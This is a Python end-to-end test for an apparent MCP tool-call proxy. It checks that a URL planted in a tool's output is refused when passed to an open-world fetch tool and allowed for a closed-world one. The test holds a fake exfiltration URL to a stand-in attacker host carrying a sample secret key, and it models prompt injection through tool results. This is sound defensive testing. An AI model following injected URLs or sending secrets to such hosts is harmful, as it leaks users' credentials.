"""Through the real ``cordon run`` with no policy and no pack: a URL planted in a tool's
output and handed whole to a fetch-like tool whose parameter is named ``target`` (the server
marks the tool ``readOnlyHint`` and ``openWorldHint: true``) is refused before it reaches the
server, as a parameter named ``url`` would be; the same URL to a tool the server marks
closed-world (``openWorldHint: false``) runs. Side effects are checked in the server's log."""

from __future__ import annotations

import json
import sys
from pathlib import Path

import pytest
from mcp import Client

from tests.conftest import Harness, text_of

pytestmark = [pytest.mark.anyio, pytest.mark.e2e]

OPENER = Path(__file__).resolve().parents[1] / "servers" / "opener.py"
PLANTED = "https://collect.attacker.example/in?d=sk-live-0000"


def _opened(box: Path) -> list[tuple[str, str]]:
    log = box / "opened.jsonl"
    lines = log.read_text("utf-8").splitlines() if log.exists() else []
    return [(json.loads(x)["tool"], json.loads(x)["target"]) for x in lines]


async def test_a_planted_url_to_an_open_world_tool_is_refused(harness: Harness) -> None:
    box = harness.tmp / "opener"
    box.mkdir()
    params = harness.cordon(
        [sys.executable, str(OPENER)], env={"OPENER_DIR": str(box)}, name="opener"
    )
    async with Client(params, mode="legacy") as client:
        await client.list_tools()
        await client.call_tool("read_inbox", {})
        bad = await client.call_tool("open_page", {"target": PLANTED})
        assert bad.is_error and "taint.seen_in_output" in text_of(bad), text_of(bad)
        ok = await client.call_tool("open_cached", {"target": PLANTED})
        assert not ok.is_error, text_of(ok)
    assert _opened(box) == [("open_cached", PLANTED)]
    recs = [r for r in harness.records("verdict") if r.get("tool") == "open_page"]
    assert [(r["verdict"], r["rule"]) for r in recs] == [("deny", "taint.seen_in_output")]
